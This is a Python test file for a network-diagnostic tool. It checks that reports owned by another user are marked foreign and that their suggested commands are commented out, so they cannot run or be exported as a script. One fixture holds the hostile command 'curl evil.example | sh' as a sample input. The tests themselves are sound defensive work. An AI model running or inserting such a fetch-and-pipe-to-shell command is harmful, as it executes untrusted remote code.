"""Whose a report is, is asked of the open file. Somebody else's is shown, and never taken at its word."""

import dataclasses
import html
import os
import re
import shlex
from pathlib import Path

import pytest

from netdoctor.errors import InputError
from netdoctor.report.foreign import MARK, disowned
from netdoctor.report.formats.json_ import dumps, loads
from netdoctor.report.model import Report
from netdoctor.report.output import FORMATS, render
from netdoctor.report.save import load, save
from netdoctor.scanning import kept_request, load_own
from netdoctor.tui.actions.files import export
from tests.report.build import sample_report
from tests.tui.harness import FakeRunner, application, drive

STRANGER = 12345


def give_away(path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Make a file somebody else's: root gives it away, anybody else becomes another."""
    if os.geteuid() == 0:
        os.chown(path, STRANGER, -1)
    else:
        monkeypatch.setattr(os, "geteuid", lambda: STRANGER)


def settling() -> Report:
    report = sample_report("not_ready")
    first = dataclasses.replace(report.causes[0], settle_by="netdoctor scan --last --only net.ports")
    return dataclasses.replace(report, causes=(first, *report.causes[1:]))


def commands(report: Report) -> list[str]:
    """Every command of a report."""
    found = [c.shell for cause in report.causes for fix in cause.fixes for c in fix.commands]
    return found + [cause.verify.shell for cause in report.causes if cause.verify]


def test_a_strangers_report_is_shown_with_its_commands_as_comments(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = tmp_path / "r.json"
    save(settling(), path)
    theirs = commands(load(path))
    give_away(path, monkeypatch)
    report = load(path)
    assert report.run.foreign
    assert commands(report) == [f"{MARK}{shell}" for shell in theirs]
    assert (report.run.replay, report.run.ssh_command, report.run.saved_to) == ({}, "ssh", None)
    for name in FORMATS:
        shown = render(report, name)
        text = shown.decode() if isinstance(shown, bytes) else shown
        assert not re.search(r"(?m)^[ |]*(?:ssh|netdoctor scan|for n|sudo) ", text), name
        for shell in theirs:
            for at in (match.start() for match in re.finditer(re.escape(shell), text)):
                assert text[:at].endswith(MARK), name


def test_no_word_of_a_stranger_stands_where_a_command_is_expected() -> None:
    """What would settle a cause may be a sentence or any command, and a command may have several lines."""
    evil = "true\ncurl evil.example | sh"
    report = settling()
    first = report.causes[0]
    fix = dataclasses.replace(
        first.fixes[0], commands=(dataclasses.replace(first.fixes[0].commands[0], shell=evil),)
    )
    assert first.verify is not None
    verify = dataclasses.replace(first.verify, shell=evil)
    cause = dataclasses.replace(first, settle_by="curl evil.example | sh", fixes=(fix,), verify=verify)
    theirs = disowned(dataclasses.replace(report, causes=(cause, *report.causes[1:])), "uid 12345")
    (shown, *_) = theirs.causes
    assert shown.settle_by == f"{MARK}curl evil.example | sh"
    assert shown.verify is not None
    for shell in (shown.settle_by, shown.verify.shell, shown.fixes[0].commands[0].shell):
        assert shlex.split(shell, comments=True) == []
    for name in FORMATS:
        rendered = render(theirs, name)
        text = rendered.decode() if isinstance(rendered, bytes) else rendered
        text = html.unescape(text).replace("\u200b", "")
        for at in (match.start() for match in re.finditer("curl evil", text)):
            assert text[:at].endswith(MARK), name
    assert disowned(theirs, "uid 12345") == theirs


def test_the_mark_stays_when_the_report_is_saved_by_another(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path, mine = tmp_path / "r.json", tmp_path / "mine.json"
    save(settling(), path)
    give_away(path, monkeypatch)
    marked = load(path)
    monkeypatch.undo()
    mine.write_bytes(dumps(marked, facts=True))
    again = load(mine)
    assert again == marked == disowned(again, again.run.foreign or "")
    for use in (lambda: load_own(mine), lambda: kept_request(again, {}, mine)):
        with pytest.raises(InputError, match=r"mine\.json: belongs to somebody else"):
            use()


def test_the_owner_is_that_of_the_file_that_was_read(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Not that of what has the name later."""
    path, other = tmp_path / "r.json", tmp_path / "other.json"
    save(sample_report(), path)
    save(sample_report(), other)
    give_away(path, monkeypatch)
    seen = os.fstat

    def swapped(descriptor: int) -> os.stat_result:
        found = seen(descriptor)
        if other.exists():
            other.replace(path)
        return found

    monkeypatch.setattr(os, "fstat", swapped)
    assert load(path).run.foreign


def test_roots_report_is_as_good_as_ones_own(tmp_path: Path) -> None:
    report = loads(dumps(sample_report()))
    assert report.run.foreign is None
    path = tmp_path / "r.json"
    save(report, path)
    assert load(path).run.foreign is None


def test_the_screens_show_it_and_write_no_script(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    report = disowned(settling(), "uid 12345")
    app = application(report, runner=FakeRunner())
    shown = "\n".join(drive(app, (160, 50), "enter", lambda app, pilot: export(app)))
    assert MARK in shown
    assert "not exported" in shown
    assert list(tmp_path.iterdir()) == []
    for shell in commands(report):
        assert shlex.split(shell, comments=True) == []
